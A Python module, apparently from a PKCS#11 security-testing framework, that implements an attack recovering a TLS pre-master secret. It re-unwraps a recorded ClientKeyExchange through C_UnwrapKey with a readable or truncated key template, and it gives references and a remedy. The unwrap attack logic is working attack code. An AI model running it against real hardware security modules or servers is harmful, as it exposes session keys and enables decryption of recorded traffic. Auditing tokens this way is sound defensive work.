"""unwrap-retype: a recorded ClientKeyExchange unwrapped once more, as a readable or a shortened key."""

from collections.abc import Iterable
from dataclasses import replace

from keyfence.cryptoki import Mechanism
from keyfence.cryptoki.constants import CKM

from .base import Attack, Bench, Technique
from .carving import CarveAttack, Origin, Piece, Specimen
from .key_exchange import PRE_MASTER_BYTES, own_exchange
from .recovery import PreMaster, Recovery, Source
from .victim import Agreement, Kind, Victim


class UnwrapRetype(Technique):
    id = "unwrap-retype"
    title = "A recorded key exchange unwrapped again"
    summary = (
        "With RSA key exchange the pre-master secret goes over the wire, encrypted. Whoever may use the server's private key "
        "gives a recorded message to C_UnwrapKey with a template of its own: a key that can be read, or, where a module cuts "
        "what it unwraps to CKA_VALUE_LEN, a key of one byte, then of two, each found by one use."
    )
    section = "PKCS#11 3.2 §5.18 (C_UnwrapKey), §6.1 (CKM_RSA_PKCS)"
    references = (
        "RFC 5246 §7.4.7.1",
        "Clulow, On the Security of PKCS #11, CHES 2003",
        "RFC 9325 §4.1 (no static RSA key exchange)",
    )
    remedy = "CKA_UNWRAP_TEMPLATE on the private key, with CKA_SENSITIVE true and CKA_EXTRACTABLE false; no RSA key exchange."
    kinds = frozenset({Kind.SSL3, Kind.TLS10, Kind.TLS12, Kind.SEPARATED})
    agreement = Agreement.RSA
    one_suite = True

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        return [UnwrapAttack(victim)]


class UnwrapAttack(CarveAttack):
    """C_UnwrapKey of the recorded message; rehearsed on one of our own for the same key."""

    key = "pre-master secret"

    def __init__(self, victim: Victim) -> None:
        super().__init__(victim, CKM.RSA_PKCS, PRE_MASTER_BYTES)

    @property
    def origin(self) -> Origin:
        return Origin(self.victim.handles.private_key, self.victim.key_exchange_message)

    def call(self, piece: Piece) -> str:
        return "C_UnwrapKey(CKM_RSA_PKCS, the server's private key, the recorded ClientKeyExchange"

    def specimen(self, bench: Bench) -> Specimen:
        own = own_exchange(bench, self.victim)
        return Specimen(replace(self.origin, data=own.message), own.pre_master)

    def make(self, bench: Bench, origin: Origin, piece: Piece) -> int:
        return bench.session.unwrap(Mechanism(self.mechanism), origin.handle, origin.data, piece.template)

    def recovery(self, value: bytes, source: Source) -> Recovery:
        return PreMaster(value, source)
